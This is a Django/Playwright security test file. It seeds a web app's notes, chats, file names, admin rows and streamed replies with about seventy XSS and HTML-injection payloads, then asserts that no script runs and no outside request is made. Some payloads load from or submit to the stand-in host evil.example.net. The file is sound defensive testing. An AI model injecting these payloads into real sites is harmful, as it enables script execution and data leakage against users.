"""Words that try to become code: wherever they stand, no dialog opens, no script of theirs runs, nothing is fetched."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.contrib import admin
from django.contrib.admin.models import LogEntry
from django.contrib.admin.utils import quote
from django.contrib.contenttypes.models import ContentType
from django.db.models import Field, JSONField
from playwright.sync_api import BrowserContext, Dialog, Request

from eunoe.accounts.models import Account
from eunoe.accounts.services import create_key
from eunoe.conversations.models import Attachment, Conversation
from eunoe.conversations.services import mark_message
from eunoe.library.models import Note
from eunoe.library.services import create_document, create_note, create_project
from eunoe.memory import services as memory
from eunoe.sharing.services import share_conversation
from tests.promises.addresses import own
from tests.promises.rows import make_row
from tests.web.conftest import remember, say

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.spec("S-1"), pytest.mark.spec("S-8")]

OUT = "https://evil.example.net"
RUN = "window.taken=1"
PAYLOADS = [
    # elements and handlers
    f"<script>{RUN}</script>",
    f"<script src={OUT}/a.js></script>",
    f"<SCRIPT >{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={OUT}/a.png>",
    f'<img/src="x"/onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<iframe src={OUT}></iframe>",
    f"<object data={OUT}/x></object>",
    f"<embed src={OUT}/x>",
    f"<form action={OUT}><button autofocus>x</button></form>",
    f"<base href={OUT}/>",
    f"<link rel=stylesheet href={OUT}/a>",
    f"<link rel=prefetch href={OUT}/b>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<style>@import '{OUT}/c'; *{{background:url({OUT}/d)}}</style>",
    f"<div style='background:url({OUT}/e)'>x</div>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    # out of an attribute, a text, a script, a comment
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"';{RUN};//",
    f'";{RUN};//',
    f"</style><img src=x onerror={RUN}>",
    # Markdown
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})",
    f"![x]({OUT}/f.png)",
    f"![x](javascript:{RUN})",
    f'![x]({OUT}/g.png "onerror={RUN}")',
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"[a](<javascript:{RUN}>)",
    f"![x][y]\n\n[y]: {OUT}/h.png",
    f"```html\n<script>{RUN}</script>\n```",
    f"`<img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> |\n|---|\n| x |",
    f"```<script>{RUN}</script>\nx\n```",
    f"[<img src=x onerror={RUN}>](https://example.org)",
    # encodings, templates, look-alikes, htmx
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "%3Cscript%3Ewindow.taken=1%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<scr\u0000ipt>{RUN}</scr\u0000ipt>".replace("\u0000", "\ufffd"),
    f"＜script＞{RUN}＜/script＞",
    "{{constructor.constructor('window.taken=1')()}}",
    f"{{% autoescape off %}}<b onclick={RUN}>",
    f"<div hx-get='{OUT}' hx-trigger='load'>x</div>",
    f"<div data-hx-get='/settings/' data-hx-trigger='load' hx-on::load='{RUN}'>",
    f"<p hx-vals='js:{{x:{RUN}}}' hx-trigger='load' hx-post='/settings/memory/clear/'>",
]


@pytest.fixture(autouse=True)
def _own_uploads(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "uploads"


def fill(account: Account) -> list[str]:
    """Each payload as a message and its reply, a title, a line, a note, a project, a file's name, a key's, a link's.
    Returns the addresses where they show."""
    paths = ["/", "/notes/", "/projects/", "/documents/", "/settings/", "/settings/memory/", "/settings/keys/",
             "/settings/shares/", "/memory/", "/conversations/", "/settings/data/", "/voice/"]  # fmt: skip
    notes = [create_note(account=account, title=payload[:200], text=payload) for payload in PAYLOADS]
    for start in range(0, len(PAYLOADS), 18):
        for payload in PAYLOADS[start : start + 18]:
            turn = say(account, payload, payload)
            Conversation.objects.filter(pk=turn.question.conversation_id).update(title=payload)
        paths.append(f"/c/{turn.question.conversation_id}/")
    together = "\n\n".join(PAYLOADS)
    whole = say(account, together, together)
    mark_message(account=account, message_id=say(account, together, together).question.pk)
    facts = remember(account, *PAYLOADS, source=whole.question)
    for number, payload in enumerate(PAYLOADS[:12]):
        project = create_project(account=account, name=payload[:100], instructions=payload)
        document = create_document(account=account, name=f"{payload[:80]}.txt", content=together.encode())
        Attachment.objects.create(account=account, message=whole.question, document=document, position=number)
        if not number:
            paths += [f"/projects/{project.pk}/", f"/documents/{document.pk}/"]
    create_key(account=account, name=PAYLOADS[4][:60])
    link = share_conversation(account=account, conversation_id=whole.question.conversation_id, name=PAYLOADS[0])
    memory.run_build(account=account)
    whole.reply.memory_used = {"facts": [str(fact.pk) for fact in facts], "recall": []}
    whole.reply.save()
    chat = f"/c/{whole.question.conversation_id}/"
    paths += [
        chat,
        f"/s/{link.token}/",
        f"/m/{whole.reply.pk}/sent/",
        f"{chat}rename/",
        f"{chat}delete/",
        f"{chat}share/",
    ]
    paths += [f"/m/{whole.question.pk}/edit/", f"/notes/{notes[4].pk}/", f"/notes/{Note.objects.latest('pk').pk}/"]
    return paths


def watch(context: BrowserContext, here: str) -> tuple[list[str], list[str]]:
    """What opens, and what is asked of anybody else, from now on."""
    opened: list[str] = []
    elsewhere: list[str] = []

    def ask(request: Request) -> None:
        if not request.url.startswith((here, "data:", "blob:", "about:")):
            elsewhere.append(request.url)

    def refuse(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    context.on("request", ask)
    context.on("dialog", refuse)
    return opened, elsewhere


def test_no_words_become_code_anywhere(
    open_context: Callable[..., BrowserContext], live_server_url: str, alice: Account
) -> None:
    assert len(PAYLOADS) >= 60
    visit(open_context(alice), live_server_url, fill(alice), account=alice)


def visit(context: BrowserContext, here: str, paths: list[str], *, account: Account) -> None:
    """Open each of them: nothing runs, opens, is fetched or leads away, and the list of facts is as long as before."""
    opened, elsewhere = watch(context, here)
    page = context.new_page()
    lines = memory.view_memory(account=account).count
    for path in paths:
        answer = page.goto(path)
        assert answer is not None
        # Some rows of the admin are there to be read alone.
        is_kept = path.startswith("/admin/") and path.endswith("/delete/")
        assert answer.status in ({200, 403} if is_kept else {200}), path
        page.keyboard.press("Tab")
        assert page.evaluate("window.taken") is None, path
        assert page.url.startswith(here), path
    assert (opened, elsewhere) == ([], [])
    assert memory.view_memory(account=account).count == lines


# --- the admin --------------------------------------------------------------------------------------------------------


def hostile(field: "Field[Any, Any]", number: int) -> Any:
    """A payload that the column holds, another for each row; where none is so short, a beginning of one."""
    # The name of a queue is part of a channel's, of 63 letters.
    room = 39 if field.name == "queue_name" else field.max_length or 10_000
    # Some names are told apart by more than their case.
    fitting = list({one.lower(): one for one in PAYLOADS if len(one) <= room}.values()) or [
        f"<b {n}>"[:room] for n in range(len(PAYLOADS))
    ]
    payload = fitting[(number + 5 * len(field.name)) % len(fitting)]
    return {payload: [payload]} if isinstance(field, JSONField) else payload


def fill_admin(account: Account) -> list[str]:
    """Rows of all that the admin shows. The list, and of one row or two what can be opened; what was done last."""
    own(account)
    for payload in PAYLOADS[:9]:
        LogEntry.objects.create(
            user=account, content_type=ContentType.objects.get_for_model(Account), object_id=account.pk, action_flag=2,
            object_repr=payload, change_message=payload,
        )  # fmt: skip
    paths = ["/admin/", f"/admin/eunoe_accounts/account/{account.pk}/history/"]
    for model in admin.site._registry:
        made = [make_row(model, number, account, hostile) for number in range(8)]
        for row in made:
            row.save(force_insert=True)
        root = f"/admin/{model._meta.app_label}/{model._meta.model_name}/"
        first, second = (f"{root}{quote(one.pk)}/" for one in made[:2])
        paths += [root, f"{first}change/", f"{second}change/", f"{first}delete/"]
    return paths


def test_no_words_become_code_in_the_admin(
    open_context: Callable[..., BrowserContext], live_server_url: str, bob: Account, settings: Any
) -> None:
    """Every column of text of everything that is registered, now and later."""
    settings.PROCRASTINATE_READONLY_MODELS = False
    Account.objects.filter(pk=bob.pk).update(is_staff=True, is_superuser=True)
    visit(open_context(bob), live_server_url, fill_admin(bob), account=bob)


def test_a_reply_as_it_comes_becomes_no_code_either(
    open_context: Callable[..., BrowserContext], live_server_url: str, alice: Account, scripted: Any
) -> None:
    """A stream is rendered piece by piece: halves of an element must not become one."""
    from tests.scripted_model import Script
    from tests.web.browser.conftest import send, wait_for_answer

    together = "\n\n".join(PAYLOADS)
    scripted.replies.append(Script([together[at : at + 37] for at in range(0, len(together), 37)]))
    context = open_context(alice)
    opened, elsewhere = watch(context, live_server_url)
    page = context.new_page()
    page.goto("/")
    send(page, PAYLOADS[4])
    wait_for_answer(page)
    assert page.evaluate("window.taken") is None
    assert (opened, elsewhere) == ([], [])
